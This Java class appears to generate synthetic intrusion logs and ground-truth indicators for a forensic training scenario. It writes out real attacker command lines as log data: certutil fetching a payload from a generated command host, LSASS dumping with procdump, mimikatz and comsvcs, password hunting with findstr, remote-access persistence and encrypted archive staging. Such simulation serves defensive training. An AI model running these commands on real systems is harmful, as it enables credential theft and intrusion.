package io.carom.scenario;

import io.carom.scenario.Org.Host;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import org.jspecify.annotations.Nullable;

/// The intruder's own: infrastructure, tools and habits of this scenario.
final class Tradecraft {
    enum Dump {
        PROCDUMP,
        MIMIKATZ,
        COMSVCS,
        NONE
    }

    enum Channel {
        DYNAMIC_DNS,
        ADDRESS_ONLY,
        SUPPORT_TOOL,
        NONE
    }

    private static final String CMD = "C:\\Windows\\System32\\cmd.exe";
    private static final String LSASS = "C:\\Windows\\System32\\lsass.exe";

    final String lureDomain;
    final String commandHost;
    final String commandAddress;
    final String dropHost;
    final String dropAddress;
    final List<String> nodes = new ArrayList<>();
    final String folder;
    final String renamed;
    final String packer;
    final Dump dump;
    final Channel channel;
    final String ownTool;
    final boolean inRecycleBin;
    /// Files leave by way of the supplier, else straight from the client.
    final boolean backThroughSupplier;
    final boolean giftCards;
    /// How fast everything goes: 0.4 hurried, 2 slow.
    final double pace;

    Tradecraft(World world, Random random) {
        Names names = world.names;
        String[] dynamic = {
            "dyn-" + names.word(random) + ".net",
            names.word(random) + "-ddns.org",
            names.word(random) + ".hopto.example"
        };
        lureDomain = Names.pick(random, new String[] {"internal-", "secure-", "encrypted-", "mail-"})
                + names.word(random)
                + Names.pick(random, new String[] {".app", ".email", ".online"});
        commandHost = names.word(random) + "." + Names.pick(random, dynamic);
        commandAddress = Names.outside(random);
        dropHost = random.nextBoolean() ? names.word(random) + "." + Names.pick(random, dynamic) : "";
        dropAddress = Names.outside(random);
        for (int i = 0; i < 3; i++) {
            nodes.add(world.vpnNodes.get(world.vpnNodes.size() / 2 + random.nextInt(world.vpnNodes.size() / 2)));
        }
        folder = Names.pick(random, new String[] {
            "C:\\ProgramData\\", "C:\\Windows\\Temp\\", "C:\\PerfLogs\\", "C:\\Users\\Public\\", "C:\\Intel\\"
        });
        renamed = names.word(random) + ".exe";
        packer = Names.pick(random, new String[] {"r.exe", "rar.exe", names.word(random) + ".exe"});
        dump = Dump.values()[random.nextInt(4)];
        channel = Channel.values()[random.nextInt(4)];
        ownTool = Names.pick(random, new String[] {"ScreenConnect", "Splashtop", "AnyDesk"});
        inRecycleBin = random.nextBoolean();
        backThroughSupplier = random.nextInt(3) > 0;
        giftCards = random.nextBoolean();
        pace = 0.4 + 1.6 * random.nextDouble();
    }

    void tell(World world, Truth truth, boolean lured, Random random) {
        if (lured) {
            truth.indicator("domain", lureDomain, "look-alike mail host of the lure");
        }
        if (channel == Channel.DYNAMIC_DNS) {
            truth.indicator("domain", commandHost, "command host");
        }
        truth.indicator("ip", commandAddress, "command host's address");
        truth.indicator("ip", dropAddress, "where stolen archives went");
        if (!dropHost.isEmpty()) {
            truth.indicator("domain", dropHost, "where stolen archives went");
        }
        for (String node : nodes.stream().distinct().toList()) {
            truth.indicator("ip", node, "VPN node the stolen accounts were used from");
        }
        // What a partner hands over always holds more than was used here.
        for (int i = 0; i < 6; i++) {
            truth.indicator("domain", world.names.word(random) + "-ddns.org", "reported by a partner");
            truth.indicator("ip", Names.outside(random), "reported by a partner");
        }
    }

    /// Tools fetched onto a machine by a certutil under another name.
    void fetchTools(Logs log, long at, Host on, String user, @Nullable String why) {
        String account = log.org.name + "\\" + user;
        log.windows.fileWritten(at, on, account, "C:\\Windows\\explorer.exe", folder + renamed, why);
        log.windows.process(
                at + 30_000,
                on,
                account,
                folder + renamed,
                "CertUtil.exe",
                folder + renamed + " -urlcache -split -f http://" + commandHost + "/a.txt " + folder + "a.dat",
                CMD,
                why);
        log.lookup(at + 30_500, on, commandHost, commandAddress, why);
        log.connection(at + 31_000, on.ip(), commandAddress, 80, "http", 4000, 1500, 900_000, Flow.Ended.SF, true, why);
        log.windows.process(
                at + 60_000,
                on,
                account,
                folder + renamed,
                "CertUtil.exe",
                folder + renamed + " -decode " + folder + "a.dat " + folder + "t.zip",
                CMD,
                why);
    }

    /// Passwords and hashes taken from a machine's memory.
    void dump(Logs log, long at, Host on, String user, @Nullable String why) {
        String account = log.org.name + "\\" + user;
        switch (dump) {
            case PROCDUMP -> {
                String tool = folder + "procdump64.exe";
                log.windows.process(
                        at,
                        on,
                        account,
                        tool,
                        "procdump",
                        tool + " -accepteula -ma lsass.exe " + folder + "l.dmp",
                        CMD,
                        why);
                log.windows.accessed(at + 300, on, account, tool, LSASS, why);
                log.windows.fileWritten(at + 900, on, account, tool, folder + "l.dmp", why);
            }
            case MIMIKATZ -> {
                String tool = folder + "m64.exe";
                log.windows.process(
                        at,
                        on,
                        account,
                        tool,
                        "mimikatz.exe",
                        tool + " privilege::debug sekurlsa::logonpasswords exit",
                        CMD,
                        why);
                log.windows.accessed(at + 300, on, account, tool, LSASS, why);
            }
            case COMSVCS -> {
                String tool = "C:\\Windows\\System32\\rundll32.exe";
                log.windows.process(
                        at,
                        on,
                        account,
                        tool,
                        "RUNDLL32.EXE",
                        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll MiniDump 640 " + folder + "l.dmp full",
                        CMD,
                        why);
                log.windows.accessed(at + 300, on, account, tool, LSASS, why);
            }
            case NONE ->
                log.windows.process(
                        at,
                        on,
                        account,
                        "C:\\Windows\\System32\\findstr.exe",
                        "findstr /si password *.xml *.ini *.config",
                        CMD,
                        why);
        }
    }

    /// A remote-support tool of the intruder's own, as a way back.
    void install(Logs log, long at, Host on, String user, @Nullable String why) {
        String account = log.org.name + "\\" + user;
        String id = Integer.toHexString(renamed.hashCode());
        String path = switch (ownTool) {
            case "ScreenConnect" ->
                "C:\\Program Files (x86)\\ScreenConnect Client (" + id + ")\\ScreenConnect.ClientService.exe";
            case "Splashtop" -> "C:\\Program Files (x86)\\Splashtop\\Splashtop Remote\\Server\\SRService.exe";
            default -> "C:\\ProgramData\\AnyDesk\\AnyDesk.exe";
        };
        String service = switch (ownTool) {
            case "ScreenConnect" -> "ScreenConnect Client (" + id + ")";
            case "Splashtop" -> "SplashtopRemoteService";
            default -> "AnyDesk Service";
        };
        log.windows.service(at, on, account, service, path, why);
        log.windows.process(
                at + 2000, on, "NT AUTHORITY\\SYSTEM", path, path, "C:\\Windows\\System32\\services.exe", why);
        if (!ownTool.equals("AnyDesk")) {
            log.windows.support(at + 600_000, on, ownTool, "admin" + id + "@" + commandHost, "Connected", why);
        }
    }

    /// Archives of many parts; gives where they lie.
    String pack(Logs log, long at, Host on, String user, String client, int parts, @Nullable String why) {
        String account = log.org.name + "\\" + user;
        String place = inRecycleBin
                ? "C:\\$Recycle.Bin\\S-1-5-21-" + Math.abs(client.hashCode()) + "\\"
                : folder + client.toUpperCase(Locale.ROOT) + "\\";
        String archive = place + Integer.toHexString(client.hashCode());
        String tool = folder + packer;
        log.windows.process(
                at,
                on,
                account,
                tool,
                "Rar.exe",
                tool + " a -v200m -hp" + Integer.toHexString(archive.hashCode()) + " " + archive + ".rar D:\\projects",
                CMD,
                why);
        for (int i = 1; i <= parts; i++) {
            log.windows.fileWritten(at + i * 60_000L, on, account, tool, archive + ".part" + i + ".rar", why);
        }
        return archive;
    }

    /// Something sent to where the intruder collects.
    void send(Logs log, long at, Host on, long size, @Nullable String why) {
        if (!dropHost.isEmpty()) {
            log.lookup(at - 100, on, dropHost, dropAddress, why);
        }
        log.connection(
                at, on.ip(), dropAddress, 443, "ssl", 60_000 + size / 4000, size, size / 900, Flow.Ended.SF, true, why);
    }
}
